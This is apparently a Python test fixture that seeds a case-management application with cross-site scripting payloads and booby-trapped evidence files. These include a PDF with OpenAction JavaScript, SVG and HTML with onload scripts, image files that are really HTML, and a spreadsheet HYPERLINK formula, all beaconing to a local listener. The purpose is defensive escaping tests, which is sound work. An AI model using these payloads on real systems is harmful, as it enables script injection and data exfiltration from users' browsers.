"""A case in which every text anybody may write is an attack, and evidence of every kind that browsers run.

Each attack would do three things a test sees: open a dialog, ask a listener of the attacker, leave a mark on the page.
"""

from __future__ import annotations

import io
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from protected_case import protected_case

from embers.actions.items import ItemOrigin, acquire_file
from embers.actions.recorder import Act
from embers.errors import EmbersError
from embers.ids import new_subject
from embers.journal.assertion import Basis
from embers.surroundings import Surroundings
from embers.vocabulary.loader import load_vocabulary

KINDS = ("incident", "place", "source", "organisation", "unit", "person", "party", "site", "mission", "total")


class Listener:
    """A server of the attacker: remembers what was asked of it, and serves pages of theirs."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.pages: dict[str, bytes] = {}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(outer.pages.get(self.path, b"stolen"))

            do_POST = do_GET  # noqa: N815 - the name the library calls

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.stop()


def attacks(address: str) -> list[str]:
    """Ways to get a script into a page: between tags, out of attributes, out of scripts, styles and templates."""
    run = f"alert(1);window.taken=1;fetch('{address}/taken')"
    beacon = f"{address}/beacon"
    return [
        f"<script>{run}</script>",
        f'"><img src=x onerror="{run}">',
        f"' autofocus onfocus='{run}' x='",
        f'</title></textarea></style></script><svg onload="{run}">',
        f"<img src='{beacon}'><link rel=stylesheet href='{beacon}'><iframe src='{beacon}'></iframe>",
        f"javascript:{run}",
        f"{{{{7*7}}}}{{% debug %}}${{7*7}}<%= 7*7 %>[[7*7]]<script>{run}</script>",
        f"<form action='{beacon}'><button formaction='javascript:{run}'>Go</button></form>",
        f"<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>{run}",
        f"<a href='data:text/html,<script>{run}</script>'>x</a><base href='{address}/'>",
        f"\u202e<script>{run}</script>\u2028-->",
    ]


class HostileCase:
    """The case; ``records`` are its subjects by kind, ``objects`` the digests of evidence by file name."""

    def __init__(self, path: Path, address: str) -> None:
        self.people = protected_case(path)
        self.folder = self.people.folder
        self.attacks = attacks(address)
        self._next = 0
        self.written: set[str] = set()
        self.records: dict[str, str] = {}
        self.objects: dict[str, str] = {}
        self.items: list[str] = []
        self._evidence(path / "evidence", address)
        around = Surroundings()
        self.records = {kind: new_subject(kind, around.randomness) for kind in KINDS}
        for kind, subject in self.records.items():
            self._say_all(kind, subject)
        self.folder.projection().close()

    def attack(self) -> str:
        self._next += 1
        return self.attacks[self._next % len(self.attacks)]

    def _say_all(self, kind: str, subject: str) -> None:
        """Say everything of a subject in which a text may stand."""
        recorder = self.people.first
        said = []
        for predicate in load_vocabulary().predicates.values():
            if not predicate.applies_to(kind) or predicate.id.startswith(("signing-key", "log-key", "role-")):
                continue
            value = self._value(predicate)
            if value is None:
                continue
            basis = [Basis(item=self.items[0], source=None, locator=self.attack()[:190])]
            try:
                said.append(recorder.new_assertion(subject, predicate.id, value, basis=basis))
            except EmbersError:
                continue
            self.written.add(predicate.id)
        recorder.record(Act("note.add", tuple(said), reason=self.attack()))

    def _value(self, predicate) -> object:
        value = self._typed(predicate.type, predicate.codes, predicate.fields)
        if predicate.claim and value is not None:
            claimant = self.records["organisation"]
            told = {"claimant": claimant, "side": "unknown", "scope": "incident", "reading": "direct"}
            return {**told, "words": self.attack(), "ref": self.attack(), "is": value}
        return value

    def _typed(self, type_: str, codes: str = "", fields: tuple = ()) -> object:
        plain = {
            "text": self.attack(),
            "texts": [self.attack(), self.attack()],
            "lang-text": {"text": self.attack(), "lang": "en"},
            "date": "2020-10-17",
            "integer": 3,
            "yes-no": True,
            "url": "https://example.invalid/" + self.attack().replace(" ", ""),
            "point": {"lat": 40_000_000, "lon": 46_000_000, "precision_m": 500, "method": self.attack()},
            "quantity": {"op": "eq", "n": 2, "unit": "persons"},
        }
        if type_ in plain:
            return plain[type_]
        if type_ == "code":
            return next(iter(load_vocabulary().codes[codes].terms))
        if type_ == "record":
            found = {field.name: self._typed(field.type, field.codes) for field in fields}
            return None if None in found.values() else found
        return None

    def _evidence(self, folder: Path, address: str) -> None:
        folder.mkdir()
        run = f"alert(1);window.taken=1;fetch('{address}/taken')"
        for name, data in evidence(run, address).items():
            path = folder / name
            path.write_bytes(data)
            new = acquire_file(
                self.people.first, path, ItemOrigin(self.attack(), self.attack(), self.attack())
            )
            self.people.first.record(new.act)
            self.items.append(new.id)
            self.objects[name] = new.acquired.sha256


def evidence(run: str, address: str) -> dict[str, bytes]:
    """Files whose makers hope that a browser opens them."""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{run}"><script>{run}</script>'
    )
    svg += f'<image href="{address}/beacon"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    svg += f'<img src="{address}/beacon"/></body></foreignObject></svg>'
    page = f"<html><head><script>{run}</script><meta http-equiv=refresh content='0;{address}/beacon'></head>"
    page += f"<body onload=\"{run}\"><img src='{address}/beacon'>Page</body></html>"
    return {
        '"><img src=x onerror=alert(1)>.svg': svg.encode(),
        "<script>alert(1)<!--.html": page.encode(),
        "page.xhtml": page.replace("<html>", "<html xmlns='http://www.w3.org/1999/xhtml'>").encode(),
        "paper.pdf": scripted_pdf(run, address),
        "picture.png": b"\x89PNG\r\n\x1a\n" + page.encode(),
        "photo.jpg": b"\xff\xd8\xff\xe0" + page.encode(),
        "words.txt": page.encode(),
        "table.csv": f'=HYPERLINK("{address}/beacon"),"<script>{run}</script>"\n'.encode() * 3,
        "script.js": run.encode(),
        "style.css": f"@import url({address}/beacon);".encode(),
        "data.json": b'{"a": "<script>alert(1)</script>"}',
    }


def scripted_pdf(run: str, address: str) -> bytes:
    """Return a document with a script, a link and a form that act when it is opened."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    script = f"app.alert(1); app.launchURL('{address}/beacon', true); {run}"
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
